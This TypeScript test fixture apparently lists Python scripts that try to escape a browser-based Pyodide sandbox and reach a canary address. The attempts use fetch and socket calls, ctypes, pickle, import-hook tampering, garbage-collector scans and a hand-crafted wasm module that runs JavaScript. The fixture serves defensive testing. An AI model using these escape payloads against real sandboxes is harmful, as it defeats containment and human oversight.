/**
 * A script that tries to escape from the interpreter; `{{http}}`, `{{ws}}` and `{{hostport}}` are replaced with the
 * canary's addresses.
 */
export interface PythonAttempt {
  readonly name: string
  /** Prints `LEAKED` if the script reached its target in a way that the canary cannot see. */
  readonly script: string
  /** True if the site reports the attempt. */
  readonly isReported?: true
}

/**
 * Every route from Python code to the browser: modules, frames, classes, natives, files, threads and the event loop.
 */
export const pythonAttempts: readonly PythonAttempt[] = [
  { name: 'js.fetch', script: 'import js\njs.fetch("{{http}}")', isReported: true },
  { name: 'from js', script: 'from js import fetch\nfetch("{{http}}")', isReported: true },
  {
    name: 'synchronous XMLHttpRequest',
    script:
      'import js\nr = js.XMLHttpRequest.new()\nr.open("GET", "{{http}}", False)\ntry:\n    r.send()\nexcept Exception:\n    pass',
    isReported: true,
  },
  {
    name: 'importlib.import_module',
    script: 'import importlib\nimportlib.import_module("js").fetch("{{http}}")',
    isReported: true,
  },
  { name: '__import__', script: '__import__("js").fetch("{{http}}")', isReported: true },
  {
    name: 'pyodide.http.open_url',
    script: 'from pyodide.http import open_url\nopen_url("{{http}}").read()',
    isReported: true,
  },
  {
    name: 'pyodide.http.pyfetch',
    script:
      'from pyodide.http import pyfetch\ntry:\n    pyfetch("{{http}}").send(None)\nexcept Exception:\n    pass',
    isReported: true,
  },
  {
    name: 'pyodide.code.run_js',
    script: 'from pyodide.code import run_js\nrun_js("fetch(\'{{http}}\')")',
    isReported: true,
  },
  {
    name: 'dynamic import of JavaScript',
    script: 'from pyodide.code import run_js\nrun_js("import(\'{{http}}\')")',
    isReported: true,
  },
  {
    name: 'importScripts in a worker of JavaScript',
    script:
      'import js\njs.Worker.new("data:text/javascript," + js.encodeURIComponent("importScripts(\'{{http}}\')"))',
    isReported: true,
  },
  { name: 'WebSocket', script: 'import js\njs.WebSocket.new("{{ws}}")', isReported: true },
  { name: 'sendBeacon', script: 'import js\njs.navigator.sendBeacon("{{http}}", "x")', isReported: true },
  { name: 'EventSource', script: 'import js\njs.EventSource.new("{{http}}")', isReported: true },
  {
    name: 'pyodide_js.loadPackage',
    script: 'import pyodide_js\npyodide_js.loadPackage("{{http}}/a-1.0-py3-none-any.whl")',
    isReported: true,
  },
  {
    name: 'indexedDB',
    script: 'import js\njs.indexedDB.open("stolen")\nprint("LEAKED")',
    isReported: true,
  },
  {
    name: 'mounting a store of the browser',
    script:
      'import pyodide_js\npyodide_js.FS.mkdir("/kept")\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, None, "/kept")\nprint("LEAKED")',
    isReported: true,
  },
  {
    name: 'ctypes and emscripten_run_script',
    script: 'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'{{http}}\')")',
    isReported: true,
  },
  {
    name: '_ctypes without ctypes',
    script:
      'import _ctypes\nhandle = _ctypes.dlopen(None, 0)\nprint("LEAKED" if _ctypes.dlsym(handle, "emscripten_run_script") else "")',
    isReported: true,
  },
  {
    name: 'socket',
    script:
      'import socket\nhost, port = "{{hostport}}".split(":")\ns = socket.socket()\ntry:\n    s.connect((host, int(port)))\n    s.send(b"x")\nexcept Exception:\n    pass',
    isReported: true,
  },
  {
    name: '_socket',
    script:
      'import _socket\nhost, port = "{{hostport}}".split(":")\ns = _socket.socket()\ntry:\n    s.connect((host, int(port)))\nexcept Exception:\n    pass',
    isReported: true,
  },
  {
    name: 'a pickle that calls run_js',
    script: 'import pickle\npickle.loads(b"cpyodide.code\\nrun_js\\n(Vfetch(\\"{{http}}\\")\\ntR.")',
    isReported: true,
  },
  {
    name: 'the gate taken out of the finders',
    script: 'import sys\nsys.meta_path[:] = sys.meta_path[1:]\nimport js\njs.fetch("{{http}}")',
  },
  {
    name: 'every finder and hook asked by hand',
    script:
      'import sys\nfor f in list(sys.meta_path)[::-1]:\n    try:\n        s = f.find_spec("js", None)\n        if s:\n            s.loader.load_module("js").fetch("{{http}}")\n    except Exception:\n        pass',
  },
  {
    name: 'sys.modules',
    script: 'import sys\nsys.modules["js"].fetch("{{http}}")',
  },
  {
    name: 'the core module built again',
    script:
      'import sys, importlib.machinery as m\nfor name in ("_pyodide_core", "js", "pyodide_js"):\n    try:\n        c = sys.modules.get(name) or m.BuiltinImporter.load_module(name)\n        c.run_js("fetch(\'{{http}}\')") if hasattr(c, "run_js") else c.fetch("{{http}}")\n    except Exception:\n        pass',
  },
  {
    name: 'proxies found by the collector of garbage',
    script:
      'import gc\nfor o in gc.get_objects():\n    for v in (list(o.values()) if type(o) is dict else [o]):\n        if "JsProxy" in [c.__name__ for c in type(v).__mro__]:\n            try:\n                v.constructor.constructor("fetch(\'{{http}}\')")()\n            except Exception:\n                pass\n            try:\n                v.fetch("{{http}}")\n            except Exception:\n                pass',
  },
  {
    name: 'functions of the bridge found by the collector of garbage',
    script:
      'import gc\nfor o in gc.get_objects():\n    if callable(o) and getattr(o, "__name__", "") == "run_js":\n        try:\n            o("fetch(\'{{http}}\')")\n        except Exception:\n            pass',
  },
  {
    name: 'names of the frames below',
    script:
      'import sys\nf = sys._getframe()\nwhile f:\n    for n in ("js", "run_js", "pyodide_js"):\n        v = f.f_globals.get(n)\n        if v is not None:\n            try:\n                (v if n == "run_js" else v.eval)("fetch(\'{{http}}\')")\n            except Exception:\n                pass\n    f = f.f_back\nm = sys.modules.get("pyodide.code")\nif m:\n    m.run_js("fetch(\'{{http}}\')")',
  },
  {
    name: "the loop's own names",
    script:
      'import asyncio\nfor c in type(asyncio.new_event_loop()).__mro__:\n    for f in vars(c).values():\n        g = getattr(f, "__globals__", {})\n        for n in ("js", "setTimeout", "clearTimeout", "scheduleCallback"):\n            v = g.get(n)\n            if v is not None:\n                try:\n                    getattr(v, "constructor")("fetch(\'{{http}}\')")()\n                except Exception:\n                    pass',
  },
  {
    name: 'a native module with JavaScript in it',
    script: [
      'import importlib.machinery, importlib.util',
      'def leb(n):\n    out = b""\n    while True:\n        b = n & 127\n        n >>= 7\n        out += bytes([b | (128 if n else 0)])\n        if not n:\n            return out',
      'def name(s):\n    return leb(len(s)) + s',
      'def section(i, body):\n    return bytes([i]) + leb(len(body)) + body',
      // A pointer to memory that the loader treats as JavaScript, because it evaluates `__em_js__` symbols.
      'text = b"(void)<::>{}; fetch(\'{{http}}\')\\0"',
      'wasm = b"\\0asm\\1\\0\\0\\0"',
      'wasm += section(0, name(b"dylink.0") + b"\\1" + name(leb(len(text) + 16) + leb(4) + leb(0) + leb(0)))',
      'wasm += section(2, leb(2) + name(b"env") + name(b"memory") + b"\\2\\0\\1" + name(b"env") + name(b"__memory_base") + b"\\3\\x7f\\0")',
      'wasm += section(6, leb(1) + b"\\x7f\\0\\x41\\0\\x0b")',
      'wasm += section(7, leb(1) + name(b"__em_js__leak") + b"\\3" + leb(1))',
      'wasm += section(11, leb(1) + b"\\0\\x23\\0\\x0b" + name(text))',
      'open("/tmp/leak.so", "wb").write(wasm)',
      'loader = importlib.machinery.ExtensionFileLoader("leak", "/tmp/leak.so")\ntry:\n    importlib.util.module_from_spec(importlib.util.spec_from_file_location("leak", "/tmp/leak.so", loader=loader))\nexcept ImportError:\n    pass',
    ].join('\n'),
  },
  {
    name: 'built-in modules made by hand',
    script: [
      'import importlib.machinery as m, sys',
      'import _imp',
      'def make(name):\n    made = _imp.create_builtin(m.ModuleSpec(name, m.BuiltinImporter))\n    _imp.exec_builtin(made)\n    return made',
      'for name in ("_pyodide_core", "_ctypes", "_posixsubprocess", "_testcapi"):\n    try:\n        make(name)\n        print("LEAKED")\n    except (AttributeError, ImportError):\n        pass',
      'try:\n    if make("_pyodide_core").to_js([1]).constructor: print("LEAKED")\nexcept (AttributeError, ImportError):\n    pass',
    ].join('\n'),
  },
  {
    name: 'objects of JavaScript that something still refers to',
    script: [
      'import gc, sys',
      'known = set()\nleft = gc.get_objects() + list(sys.modules.values())',
      'makers = ("to_js", "run_js", "create_proxy", "raw_call", "create_once_callable", "create_builtin")',
      'while left:',
      '    one = left.pop()',
      '    if id(one) in known:\n        continue',
      '    known.add(id(one))',
      '    if type(one) is not type and any(kind.__name__ == "JsProxy" for kind in type(one).__mro__):\n        print("LEAKED")\n        break',
      '    if type(one) is type(len) and one.__name__ in makers:\n        print("LEAKED")\n        break',
      '    left += gc.get_referents(one)',
    ].join('\n'),
  },
  {
    name: 'the real clock',
    script: [
      'import datetime, os, time',
      'told = [time.time(), time.clock_gettime(time.CLOCK_REALTIME), datetime.datetime.now().timestamp()]',
      'for folder, folders, files in os.walk("/"):\n    for name in (".", *files[:20]):\n        try:\n            status = os.stat(os.path.join(folder, name))\n            told += [status.st_atime, status.st_mtime, status.st_ctime]\n        except OSError:\n            pass',
      '# The first of January 2026: answers are drawn at an earlier date.',
      'if max(told) > 1767225600:\n    print("LEAKED")',
    ].join('\n'),
  },
  {
    name: 'a page opened by webbrowser',
    script: 'import webbrowser\nwebbrowser.open("{{http}}")',
    isReported: true,
  },
  {
    name: 'a message to the page',
    script: 'import js\n(js.parent if hasattr(js, "parent") else js).postMessage("x", "*")\nprint("LEAKED")',
    isReported: true,
  },
]
